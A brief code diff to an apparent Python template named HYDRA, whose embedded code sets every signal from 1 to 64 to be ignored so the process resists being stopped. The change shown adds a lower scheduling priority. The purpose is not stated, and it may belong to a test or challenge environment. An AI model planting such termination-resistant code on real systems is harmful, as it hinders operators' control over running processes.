@@ -13,6 +13,7 @@ HYDRA = """\
 import subprocess, time
 HEAD = '''
 import ctypes, os, signal, time
+os.nice(19)
 for number in range(1, 65):
     try: signal.signal(number, signal.SIG_IGN)
     except (OSError, ValueError): pass
